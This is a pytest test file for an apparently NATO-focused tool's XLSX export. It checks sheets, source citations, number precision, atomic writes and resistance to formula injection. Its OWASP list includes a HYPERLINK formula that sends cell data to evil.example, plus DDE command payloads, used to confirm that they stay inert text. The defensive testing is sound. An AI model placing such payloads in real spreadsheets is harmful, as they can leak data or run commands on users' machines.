"""XLSX export: three sheets, every source id resolves, no cell is a formula,
numbers stay numbers, and a failed write leaves nothing behind.

The workbook is read back with zipfile and ElementTree (no openpyxl)."""

from __future__ import annotations

import dataclasses
import math
import os
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nato_desk.domain import Observation, Source
from nato_desk.export.citations import cited_publisher, cited_title, cited_url
from nato_desk.export.csv_export import FORMULA_TRIGGERS
from nato_desk.export.xlsx_export import (
    DATA_COLUMNS,
    SOURCE_COLUMNS,
    write_observations_xlsx,
    xlsx_text,
)
from nato_desk.ingest import load_seed, seed_folder

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
      "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
      "rel": "http://schemas.openxmlformats.org/package/2006/relationships"}
M = "{%s}" % NS["m"]
TRIGGERS = (*FORMULA_TRIGGERS, "\x00")
ABOUT = {"filters": "allies=ESP", "exported (UTC)": "2026-11-27T10:00:00Z",
         "app version": "0.1.0", "editions": "2025-08, 2026-07", "marking": "UNCLASSIFIED"}


def _unescape(text: str) -> str:
    """Excel's _xHHHH_ escapes (XlsxWriter writes CR as _x000D_, "_x" as _x005F_x)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


class Book:
    """A workbook read back: sheets as lists of rows, cells as (type, value); also the raw XML."""

    def __init__(self, path: Path) -> None:
        with zipfile.ZipFile(path) as z:
            names = z.namelist()
            wb = ET.fromstring(z.read("xl/workbook.xml"))
            rels = ET.fromstring(z.read("xl/_rels/workbook.xml.rels"))
            targets = {r.get("Id"): r.get("Target") for r in rels.findall("rel:Relationship", NS)}
            shared: list[str] = []
            if "xl/sharedStrings.xml" in names:
                sst = ET.fromstring(z.read("xl/sharedStrings.xml"))
                shared = [_unescape("".join(t.text or "" for t in si.iter(M + "t")))
                          for si in sst.findall("m:si", NS)]
            self.names = [s.get("name") for s in wb.find("m:sheets", NS)]
            self.raw: dict[str, bytes] = {}
            self.sheets: dict[str, list[list[tuple[str, str | float | None]]]] = {}
            for s in wb.find("m:sheets", NS):
                target = targets[s.get("{%s}id" % NS["r"])]
                raw = z.read("xl/" + target.lstrip("/").removeprefix("xl/"))
                self.raw[s.get("name")] = raw
                self.sheets[s.get("name")] = self._rows(ET.fromstring(raw), shared)

    @staticmethod
    def _rows(root: ET.Element, shared: list[str]) -> list[list[tuple[str, str | float | None]]]:
        rows = []
        for row in root.iter(M + "row"):
            cells: list[tuple[str, str | float | None]] = []
            for c in row.findall("m:c", NS):
                col = _column(c.get("r"))
                while len(cells) < col:
                    cells.append(("blank", None))
                kind = c.get("t", "n")
                v = c.find("m:v", NS)
                if v is None and kind != "inlineStr":
                    cells.append(("blank", None))
                elif kind == "s":
                    cells.append(("s", shared[int(v.text)]))
                elif kind == "n":
                    cells.append(("n", float(v.text)))
                else:
                    cells.append((kind, v.text if v is not None else None))
            rows.append(cells)
        return rows

    def records(self, sheet: str) -> list[dict[str, str | float | None]]:
        header, *rows = self.sheets[sheet]
        names = [v for _, v in header]
        return [{n: (row[i][1] if i < len(row) else None) for i, n in enumerate(names)}
                for row in rows]


def _column(ref: str) -> int:
    n = 0
    for ch in re.match(r"[A-Z]+", ref).group(0):
        n = n * 26 + ord(ch) - 64
    return n - 1


@pytest.fixture(scope="module")
def seed():
    return load_seed(seed_folder())


@pytest.fixture(scope="module")
def spain(seed):
    return [r for r in seed if isinstance(r, Observation) and r.iso3 == "ESP"]


@pytest.fixture(scope="module")
def sources(seed):
    return [r for r in seed if isinstance(r, Source)]


def test_spains_figures_read_back_with_sources_and_about(tmp_path, spain, sources):
    path = tmp_path / "spain.xlsx"
    assert write_observations_xlsx(path, spain, sources, ABOUT) == len(spain) > 20
    book = Book(path)
    assert book.names == ["data", "sources", "about"]
    assert [v for _, v in book.sheets["data"][0]] == list(DATA_COLUMNS)
    assert [v for _, v in book.sheets["sources"][0]] == list(SOURCE_COLUMNS)

    data = book.records("data")
    assert len(data) == len(spain)
    for obs, row in zip(spain, data):
        assert (row["iso3"], row["year"], row["measure"], row["status"], row["edition"],
                row["source_id"]) == (obs.iso3, obs.year, obs.measure.value, obs.status.value,
                                      obs.edition, obs.source_id)
        assert row["note"] == (xlsx_text(obs.note) or None)
        if obs.value is None:
            assert row["value"] is None
        else:
            # The number itself (a spreadsheet keeps ~15-16 significant digits of an unrounded cell).
            assert isinstance(row["value"], float) and math.isclose(row["value"], obs.value, rel_tol=1e-14)
    assert {"2025-08", "2026-07"} <= {r["edition"] for r in data}

    cited = {obs.source_id for obs in spain}
    listed = book.records("sources")
    assert {r["id"] for r in listed} == cited  # every cited source, and only those
    assert len(listed) == len(cited)
    by_id = {s.id: s for s in sources}
    for r in listed:
        s = by_id[r["id"]]
        assert (r["cited_publisher"], r["cited_title"], r["cited_url"] or "", r["kind"]) == (
            xlsx_text(cited_publisher(s)), xlsx_text(cited_title(s)), xlsx_text(cited_url(s)), s.kind)
    # The originals are cited; the GitHub transcription appears only as read at / via.
    rows = {r["id"]: r for r in listed}
    t3 = rows["GH_NATOANALYTICS_T3"]
    assert (t3["cited_publisher"], t3["kind"]) == ("NATO", "transcription")
    assert t3["cited_title"].startswith("Defence Expenditure of NATO Countries (2014-2025), Table 3")
    assert t3["cited_url"] == "https://www.nato.int/cps/en/natohq/news_237171.htm"
    assert t3["read_at"].startswith("https://github.com/namanjain92/") and "GitHub" in t3["via"]
    assert t3["date"] is None  # the transcription's date is not NATO's
    for r in listed:
        for column in ("cited_publisher", "cited_title", "cited_url"):
            assert "github" not in (r[column] or "").lower(), (r["id"], column)
    original = rows["DEFENCEUA_20250828"]
    assert original["read_at"] is None and original["via"] is None

    about = {r["key"]: r["value"] for r in book.records("about")}
    assert about == ABOUT

    for name, raw in book.raw.items():
        assert b"<f>" not in raw and b"<f " not in raw, name
        root = ET.fromstring(raw)
        assert root.find("m:sheetViews/m:sheetView/m:pane", NS).get("ySplit") == "1"  # frozen
        assert all(c.get("t", "n") in {"s", "n"} for c in root.iter(M + "c"))
    assert os.listdir(tmp_path) == ["spain.xlsx"]


def test_numbers_are_numbers_at_published_precision(tmp_path, spain, sources):
    path = tmp_path / "x.xlsx"
    write_observations_xlsx(path, spain, sources, {})
    with zipfile.ZipFile(path) as z:
        styles = z.read("xl/styles.xml").decode()
    assert 'formatCode="0.00"' in styles
    root = ET.fromstring(Book(path).raw["data"])
    for row in list(root.iter(M + "row"))[1:]:
        year = next(c for c in row.findall("m:c", NS) if c.get("r").startswith("B"))
        assert year.get("t") in (None, "n")


OWASP = [
    '=1+2";=1+2', "=1+2'\" ;,=1+2", '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "-0.5",
    "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\x01=1+1", "\x1b+1", "\ufffe-1",
    "http://evil.example", "1e5", "Türkiye", "_x0041_",
]


def _write_hostile(path: Path, spain: list[Observation], texts: list[str]) -> Book:
    base = spain[0]
    observations = [dataclasses.replace(base, note=t, source_id=f"S{i}", edition=t, iso3=t)
                    for i, t in enumerate(texts)]
    sources = [Source(f"S{i}", t, t, t, t, t) for i, t in enumerate(texts)]
    write_observations_xlsx(path, observations, sources, {t: t for t in texts})
    return Book(path)


def _check_hostile(book: Book, texts: list[str]) -> None:
    for name, raw in book.raw.items():
        assert b"<f>" not in raw and b"<f " not in raw and b"<f/>" not in raw, name
        for row in book.sheets[name][1:]:
            for kind, value in row:
                assert kind in {"s", "n", "blank"}
                if kind == "s":
                    assert not value.startswith(TRIGGERS)
    data = book.records("data")
    assert len(data) == len(texts)
    for text, row in zip(texts, data):
        assert row["note"] == (xlsx_text(text) or None)
        assert isinstance(row["value"], float)
    assert {r["id"] for r in book.records("sources")} == {r["source_id"] for r in data}


def test_owasp_strings_are_text_never_formulas(tmp_path, spain):
    book = _write_hostile(tmp_path / "x.xlsx", spain, OWASP)
    _check_hostile(book, OWASP)
    notes = [r["note"] for r in book.records("data")]
    assert notes[0] == "'=1+2\";=1+2" and notes[7] == "'-0.5" and notes[12] == "'=1+1"
    assert notes[15] == "http://evil.example" and notes[18] == "_x0041_"
    assert b"hyperlink" not in book.raw["data"]


_RISKY = st.builds(lambda a, b: a + b,
                   st.sampled_from(["", *TRIGGERS, "\x00=", "\x01@", "\ud800+", "\x0b-"]),
                   st.text())


@settings(max_examples=300, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(_RISKY, st.text()), min_size=1, max_size=5, unique=True))
def test_no_text_ever_becomes_a_formula(tmp_path, spain, texts):
    _check_hostile(_write_hostile(tmp_path / "h.xlsx", spain, texts), texts)


def test_unknown_source_is_refused_and_nothing_written(tmp_path, spain):
    with pytest.raises(ValueError, match="unknown sources"):
        write_observations_xlsx(tmp_path / "x.xlsx", spain, [], {})
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("failing", ["fsync", "replace"])
def test_a_failed_write_leaves_no_file_and_no_temp(tmp_path, spain, sources, monkeypatch, failing):
    path = tmp_path / "spain.xlsx"

    def fail(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, failing, fail)
    with pytest.raises(OSError, match="no space left on device"):
        write_observations_xlsx(path, spain, sources, ABOUT)
    monkeypatch.undo()
    assert os.listdir(tmp_path) == []
    path.write_bytes(b"old")
    monkeypatch.setattr(os, failing, fail)
    with pytest.raises(OSError):
        write_observations_xlsx(path, spain, sources, ABOUT)
    monkeypatch.undo()
    assert path.read_bytes() == b"old" and os.listdir(tmp_path) == ["spain.xlsx"]
    assert write_observations_xlsx(path, spain, sources, ABOUT) == len(spain)
    assert len(Book(path).records("data")) == len(spain)


def test_blank_figure_is_an_empty_cell(tmp_path, spain, sources):
    blank = dataclasses.replace(spain[0], value=None, note="not published")
    nan = dataclasses.replace(spain[0], value=math.nan)
    path = tmp_path / "b.xlsx"
    write_observations_xlsx(path, [blank, nan], sources, {})
    rows = Book(path).records("data")
    assert [r["value"] for r in rows] == [None, None]
    assert rows[0]["note"] == "not published"
